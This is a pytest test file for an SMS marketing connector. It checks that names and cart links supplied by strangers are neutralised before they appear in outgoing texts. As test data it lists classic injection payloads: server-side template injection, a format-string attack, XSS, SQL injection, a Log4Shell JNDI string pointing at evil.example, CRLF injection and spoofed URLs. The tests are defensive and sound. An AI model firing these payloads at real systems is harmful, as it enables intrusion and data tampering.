"""Values that want to be more than values: they stand in a text as they are, or not at all."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from tests.bad.house import House, audit, build
from tests.running import BACKEND_KEY, SITE_KEY

LITERAL = (
    "{{ 7 * 7 }}",
    "{% for x in range(99999999) %}x{% endfor %}",
    "{{ brand.__class__.__mro__ }}",
    "%s%s%n",
    "{0.__class__}",
    "<script>alert(1)</script>",
    "'; DROP TABLE sends;--",
    "🦊" * 40,
)
"""Taken word for word, from whomever."""

FROM_A_BROWSER = {
    "http://evil.example/win": "",
    "evil.example": "",
    "www。evil。example": "",
    "ｅｖｉｌ．example": "",
    "évil.exämple": "",
    "http:\\\\evil.example": "",
    "//evil.example": "",
    "x=evil.example": "",
    "192.0.2.7/x": "",
    "${jndi:ldap://evil.example/a}": "",
    "Ann\r\nReply YES": "Ann Reply YES",
    "\u202eeno\u202c": "eno",
    "An\u200bn": "Ann",
    "\x00\x1b[2J": "[2J",
    "\ud83e": "?",
    "x" * 3_000: "x" * 200,
}
"""What is left of a stranger's string."""

NO_WORDS: tuple[Any, ...] = ([1, 2], {"a": "b"}, True, [[[[]]]])
"""Values that no text can hold."""


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    made = build(tmp_path_factory.mktemp("values") / "house")
    with made.running:
        yield made
        made.settle()
        audit(made.running)
    assert "Traceback" not in (made.running.path / "log").read_text()


class Person:
    """Somebody who agreed to texts, and of whom a stranger then tells something."""

    count = 0

    def __init__(self, house: House) -> None:
        Person.count += 1
        self.house = house
        self.id = f"u-{Person.count}"
        self.phone = f"+1212555{Person.count + 200:04}"
        agreed = {"sms_consent": True, "order_updates_consent": True}
        self.tell("identify", {"traits": {"phone": self.phone, **agreed}}, BACKEND_KEY)

    def tell(self, door: str, what: dict[str, Any], key: str) -> None:
        body = json.dumps({"userId": self.id, **what}).encode()
        assert self.house.ask("POST", f"/v1/{door}", body, key=key).status == 200

    def signs_up(self, name: Any, key: str) -> None:
        """A name is told, and an event that starts a play whose text holds it."""
        self.tell("identify", {"traits": {"firstName": name}}, key)
        self.tell("track", {"event": "Signed Up"}, key)

    def text(self) -> str:
        """The text that was handed to the provider."""
        found = self.house.running.until(self._texts)
        assert len(found) == 1
        return str(found[0])

    def _texts(self) -> list[str]:
        outbox = self.house.running.outbox()
        return [line["text"] for line in outbox if line["to"] == self.phone]

    def stopped(self) -> dict[str, Any]:
        """The decision that stopped the text."""
        sql = """SELECT d.* FROM decisions d JOIN identities i ON i.contact_id = d.contact_id
            WHERE i.value = ? AND d.verdict = 'stop'"""
        found: list[dict[str, Any]] = self.house.running.until(
            lambda: self.house.running.rows(sql, self.phone)
        )
        assert not self._texts()
        return found[0]


def welcome(name: str) -> str:
    return f"Corner Shop: welcome, {name}! Offers" if name else "Corner Shop: welcome! Offers"


@pytest.mark.parametrize("key", [SITE_KEY, BACKEND_KEY])
def test_what_looks_like_a_template_stands_as_it_is(house: House, key: str) -> None:
    people = [(Person(house), value) for value in LITERAL]
    for person, value in people:
        person.signs_up(value, key)
    for person, value in people:
        assert person.text().startswith(welcome(value))


def test_a_strangers_links_and_control_characters_are_taken_off(house: House) -> None:
    people = [(Person(house), value) for value in FROM_A_BROWSER]
    for person, value in people:
        person.signs_up(value, SITE_KEY)
    for person, value in people:
        text = person.text()
        assert text.startswith(welcome(FROM_A_BROWSER[value])), value
        assert text.isprintable() and "evil" not in text


def test_a_value_that_no_text_can_hold_stops_the_text_and_says_so(house: House) -> None:
    people = [Person(house) for _ in NO_WORDS]
    for person, value in zip(people, NO_WORDS, strict=True):
        person.signs_up(value, SITE_KEY)
    for person in people:
        decision = person.stopped()
        assert decision["reason"] == "value_missing"
        assert "cannot stand in a text" in decision["objections"]


def test_a_value_that_the_text_wants_and_nobody_told_stops_it_and_names_it(house: House) -> None:
    person = Person(house)
    person.tell("track", {"event": "Order Completed", "properties": {"total": 9.5}}, BACKEND_KEY)
    decision = person.stopped()
    assert (decision["play"], decision["reason"]) == ("order_confirmation", "value_missing")
    assert "signal.order_id" in decision["objections"]


def test_a_strangers_link_stops_the_text_unless_it_leads_to_a_host_of_ours(house: House) -> None:
    links = {
        "https://evil.example/cart": False,
        "https://corner.example@evil.example/": None,
        "https://corner.example.evil.example/": False,
        "javascript:alert(1)": None,
        "https://corner.example/cart": True,
        "https://shop.corner.example/cart": True,
    }
    people = [(Person(house), link, fate) for link, fate in links.items()]
    for person, link, _ in people:
        consents = {"cart_reminders_consent": True, "sms_consent": True, "phone": person.phone}
        person.tell("identify", {"traits": consents}, BACKEND_KEY)
        cart = {"cart_id": person.id, "cart_url": link}
        hour_ago = {"timestamp": "2026-11-18T15:55:00Z", "event": "Cart Viewed"}
        person.tell("track", {**hour_ago, "properties": cart}, SITE_KEY)
    for person, link, goes in people:
        if goes is False:
            assert person.stopped()["reason"] == "value_missing"
        else:
            assert (link in person.text()) is bool(goes), link


def test_an_event_whose_mapping_fails_is_kept_with_the_field_and_replayed_once_it_is_mended(
    house: House,
) -> None:
    person = Person(house)
    told = {"messageId": "too-long", "event": "Product Added", "properties": {"name": "x" * 5_000}}
    person.tell("track", told, BACKEND_KEY)
    failed = house.running.until(lambda: house.event("too-long"))
    assert failed["state"] == "failed" and "facts.product" in failed["reason"]
    assert "x" * 50 not in failed["reason"]
    assert house.running.one("SELECT 1 FROM signals WHERE event_id = ?", failed["id"]) is None

    mapping = house.running.path / "mappings/sources/segment.toml"
    text = mapping.read_text()
    long = 'product = "properties.products[0].name or properties.name"'
    assert long in text
    mapping.write_text(text.replace(long, 'product = "properties.name[:40]"'))
    try:
        assert replay(house, failed["id"]) == [{"id": failed["id"], "state": "done", "reason": ""}]
    finally:
        mapping.write_text(text)
    facts = house.running.one("SELECT facts FROM signals WHERE event_id = ?", failed["id"])
    assert json.loads(facts)["product"] == "x" * 40
    assert replay(house, failed["id"]) == []


def replay(house: House, event_id: str) -> list[dict[str, str]]:
    """What ``connector events replay`` says of one event."""
    folder = str(house.running.path)
    command = [sys.executable, "-m", "connector", "-C", folder, "events", "replay", event_id]
    done = subprocess.run([*command, "--json"], capture_output=True, text=True, timeout=30)
    assert done.returncode in (0, 3), done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]
